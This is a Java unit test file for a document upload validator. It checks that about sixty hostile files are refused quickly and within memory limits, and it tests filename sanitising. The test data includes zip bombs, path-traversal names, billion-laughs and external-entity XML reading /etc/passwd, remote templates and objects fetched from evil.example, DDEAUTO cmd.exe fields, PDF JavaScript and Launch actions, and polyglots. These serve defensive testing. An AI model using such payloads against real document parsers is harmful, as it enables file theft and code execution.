package org.fengqiao.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.fengqiao.document.Papers.docx;
import static org.fengqiao.document.Papers.joined;
import static org.fengqiao.document.Papers.pdf;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.fengqiao.document.Judged.Kind;
import org.fengqiao.document.Judged.Quarantined;
import org.fengqiao.shared.RefusedException;
import org.junit.jupiter.api.Test;

/** U1, U2 and U4 by the bytes: bombs, nested and forged archives, scripts and polyglots are refused soon and cheaply. */
class U1_BombsTest {

    private static final Duration SOON = Duration.ofSeconds(2);
    private static final long HEAP = 256L * 1024 * 1024;

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String relation(String type, String target) {
        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + type + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
    }

    private static Map<String, byte[]> bad() {
        Map<String, byte[]> bad = new LinkedHashMap<>();
        byte[] zeros = new byte[1024 * 1024];
        // Bombs.
        bad.put("xml of 90 MB of zeros", docx("word/big.xml", new byte[90 * 1024 * 1024]));
        bad.put("picture of 120 MB of zeros", docx("word/media/a.png", new byte[120 * 1024 * 1024]));
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i < 110; i++) {
            many.put("word/media/" + i + ".png", zeros);
        }
        bad.put("110 pictures of 1 MB", docx(many));
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < 5_000; i++) {
            entries.put("word/p" + i + ".xml", new byte[0]);
        }
        bad.put("5,000 entries", docx(entries));
        bad.put("60,000 entries", Papers.zip(60_000, new byte[0]));
        bad.put("ratio of 1,000", docx("xl/sharedStrings.xml", new byte[30 * 1024 * 1024]));
        bad.put("a zip in it", docx("word/media/inner.png", Papers.zip(3, zeros)));
        bad.put("a docx in it", docx("word/media/inner.bin", docx(Map.of())));
        bad.put("gzip in it", docx("word/media/a.gz", new byte[] {0x1F, (byte) 0x8B, 8, 0}));
        bad.put("7z in it", docx("word/media/a.png", ascii("7z\u00BC\u00AF\u0027\u001C")));
        bad.put("rar in it", docx("word/media/a.png", ascii("Rar!\u001A\u0007\u0000")));
        bad.put("xz in it", docx("word/media/a.png", ascii("\u00FD7zXZ\u0000")));
        bad.put("bzip2 in it", docx("word/media/a.png", ascii("BZh91AY")));
        bad.put("a program in it", docx("word/media/a.png", ascii("MZ\u0090")));
        bad.put("an ELF program in it", docx("word/media/a.png", ascii("\u007FELF")));
        bad.put("a PDF in it", docx("word/media/a.png", pdf("")));
        bad.put(
                "an old office file in it",
                docx("word/media/a.bin", ascii("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")));
        // Names.
        for (String name : List.of(
                "../../etc/passwd",
                "/etc/passwd",
                "..\\..\\windows\\system.ini",
                "C:\\x.xml",
                "word/../../x.xml",
                "word\\x.xml",
                "a:b.xml",
                "word/\u0000.xml",
                "word/\r\n.xml",
                "x".repeat(300) + ".xml",
                "WORD/Document.xml")) {
            bad.put("name " + name.substring(0, Math.min(20, name.length())), docx(name, "<a/>"));
        }
        // XML.
        String billion = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><a>&lol2;</a>";
        bad.put("billion laughs", docx("word/styles.xml", billion));
        bad.put(
                "external entity",
                docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"));
        bad.put(
                "external entity over http",
                docx("word/styles.xml", "<!DOCTYPE a SYSTEM \"http://127.0.0.1/x.dtd\"><a/>"));
        bad.put(
                "parameter entity",
                docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://127.0.0.1/\"> %x;]><a/>"));
        bad.put("entity in relationships", docx("word/_rels/document.xml.rels", billion));
        bad.put("entity in UTF-16", docx("word/styles.xml", billion.getBytes(StandardCharsets.UTF_16)));
        bad.put("entity in UTF-16LE", docx("word/styles.xml", billion.getBytes(StandardCharsets.UTF_16LE)));
        bad.put(
                "said to be UTF-7",
                docx("word/styles.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE"));
        bad.put("said to be EBCDIC", docx("word/styles.xml", "<?xml version='1.0' encoding='IBM037'?><a/>"));
        bad.put("ENTITY after blanks", docx("word/styles.xml", "<! DOCTYPE a><a/>"));
        // What runs or fetches.
        bad.put("macros", docx("word/vbaProject.bin", ascii("\u00CC\u0061")));
        bad.put("macros said", Papers.office("application/vnd.ms-word.document.macroEnabled.main+xml", Map.of()));
        bad.put("ActiveX", docx("word/activeX/activeX1.xml", "<ax/>"));
        bad.put("embedded", docx("word/embeddings/oleObject1.bin", ascii("x")));
        bad.put(
                "template from outside",
                docx("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/t.dotm")));
        bad.put(
                "picture from outside",
                docx("word/_rels/document.xml.rels", relation("image", "http://evil.example/p.png")));
        bad.put(
                "object from outside",
                docx("word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://evil.example!x")));
        bad.put("frame from outside", docx("word/_rels/document.xml.rels", relation("frame", "http://evil.example/")));
        bad.put(
                "table from outside",
                Papers.xlsx(Map.of(
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        ascii(relation("externalLinkPath", "file:///x")))));
        bad.put("DDE field", docx("word/footer.xml", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"));
        bad.put(
                "DDE link",
                Papers.xlsx(Map.of(
                        "xl/externalLinks/externalLink1.xml",
                        ascii("<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))));
        for (String active : List.of(
                "/JavaScript (app.alert(1))",
                "/JS (x)",
                "/J#61vaScript (x)",
                "/#4aS (x)",
                "/Launch << /F (cmd.exe) >>",
                "/EmbeddedFile",
                "/EmbeddedFiles 3 0 R",
                "/SubmitForm",
                "/GoToR (\\\\\\\\evil.example\\\\x)",
                "/GoToE 1",
                "/RichMedia",
                "/ImportData",
                "/XFA 1 0 R")) {
            bad.put("PDF with " + active, pdf("3 0 obj << " + active + " >> endobj"));
        }
        // Two things at once, or none of ours.
        byte[] good = docx(Map.of());
        bad.put("zip behind a PDF", joined(pdf(""), good));
        bad.put("PDF behind a zip", joined(good, pdf("")));
        bad.put("zip with a comment", commented(good));
        bad.put("script before a zip", joined(ascii("#!/bin/sh\n"), good));
        bad.put("zip within a PDF", pdf("PK\u0003\u0004 PK\u0005\u0006"));
        bad.put("script behind a PDF", joined(pdf(""), ascii("<script>alert(1)</script>")));
        bad.put("HTML before a PDF", joined(ascii("<html>"), pdf("")));
        bad.put("GIF that is a zip", joined(ascii("GIF89a"), good));
        bad.put("cut off zip", java.util.Arrays.copyOf(good, good.length - 30));
        bad.put("cut off PDF", java.util.Arrays.copyOf(pdf(""), 60));
        bad.put("SVG", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"));
        bad.put("HTML", ascii("<html><script>alert(1)</script>"));
        bad.put("a program", ascii("MZ\u0090\u0000"));
        bad.put("bare EICAR", ascii(Papers.EICAR));
        bad.put("a plain zip", Papers.zip(3, zeros));
        bad.put("old Word", ascii("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1" + "x".repeat(500)));
        bad.put("nothing", new byte[0]);
        bad.put("11 MB", new byte[11 * 1024 * 1024]);
        return bad;
    }

    private static byte[] commented(byte[] zip) {
        byte[] with = joined(zip, ascii("comment"));
        with[zip.length - 2] = 7;
        return with;
    }

    @Test
    void sixtyBadFilesAreRefusedSoonAndCheaply() {
        Map<String, byte[]> files = bad();
        List<String> taken = new ArrayList<>();
        List<String> slow = new ArrayList<>();
        for (Map.Entry<String, byte[]> one : files.entrySet()) {
            long start = System.nanoTime();
            try {
                taken.add(one.getKey() + " -> " + DocumentReader.judge(one.getValue()));
            } catch (RefusedException refused) {
                assertThat(refused.key()).startsWith("refused.document.");
            }
            if (System.nanoTime() - start > SOON.toNanos()) {
                slow.add(one.getKey());
            }
        }
        System.out.println("U1: " + files.size() + " bad files");
        assertThat(files).hasSizeGreaterThanOrEqualTo(60);
        assertThat(taken).isEmpty();
        assertThat(slow).isEmpty();
    }

    @Test
    void aBombTakesNoMoreMemoryThanItMay() {
        byte[] bomb = docx("word/big.xml", new byte[90 * 1024 * 1024]);
        com.sun.management.ThreadMXBean thread =
                (com.sun.management.ThreadMXBean) java.lang.management.ManagementFactory.getThreadMXBean();
        long before = thread.getCurrentThreadAllocatedBytes();

        assertThatThrownBy(() -> DocumentReader.judge(bomb)).isInstanceOf(RefusedException.class);

        assertThat(thread.getCurrentThreadAllocatedBytes() - before).isLessThan(HEAP);
    }

    @Test
    void papersAsOfficesWriteThemAreTaken() {
        assertThat(DocumentReader.judge(pdf(""))).isEqualTo(new Judged(Kind.PDF, null));
        assertThat(DocumentReader.judge(docx(Map.of()))).isEqualTo(new Judged(Kind.DOCX, null));
        assertThat(DocumentReader.judge(Papers.xlsx(Map.of()))).isEqualTo(new Judged(Kind.XLSX, null));
        assertThat(DocumentReader.judge(
                        docx("word/_rels/document.xml.rels", relation("hyperlink", "https://www.example.com/"))))
                .isEqualTo(new Judged(Kind.DOCX, null));
        assertThat(DocumentReader.judge(docx("word/media/image1.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'})))
                .isEqualTo(new Judged(Kind.DOCX, null));
    }

    @Test
    void whatNobodyCanLookIntoAndWhatScannersWarnOfGoesIntoQuarantine() {
        byte[] locked = joined(
                ascii("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1" + "x".repeat(100)),
                "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE));
        for (byte[] encrypted :
                List.of(pdf("4 0 obj << /Encrypt 5 0 R >> endobj"), locked, Papers.saidToBeEncrypted(docx(Map.of())))) {
            assertThat(DocumentReader.judge(encrypted).quarantined()).isEqualTo(Quarantined.ENCRYPTED);
        }
        for (byte[] infected : List.of(
                pdf(Papers.EICAR), docx("word/media/a.txt", Papers.EICAR), docx("word/comments.xml", Papers.EICAR))) {
            assertThat(DocumentReader.judge(infected).quarantined()).isEqualTo(Quarantined.VIRUS);
        }
    }

    @Test
    void aNameIsOnlyAName() {
        assertThat(AttachDocument.named("../../etc/passwd", Kind.PDF)).isEqualTo("passwd.pdf");
        assertThat(AttachDocument.named("C:\\桌面\\调解协议书.docx", Kind.DOCX)).isEqualTo("调解协议书.docx");
        assertThat(AttachDocument.named("invoice\u202Efdp.exe", Kind.PDF)).isEqualTo("invoicefdp.exe.pdf");
        assertThat(AttachDocument.named(null, Kind.XLSX)).isEqualTo("1.xlsx");
        assertThat(AttachDocument.named("<script>\"x\".pdf", Kind.PDF)).isEqualTo("scriptx.pdf");
        assertThat(AttachDocument.named("长".repeat(300), Kind.PDF)).hasSize(124);
        assertThat(Charset.defaultCharset()).isEqualTo(StandardCharsets.UTF_8);
    }
}
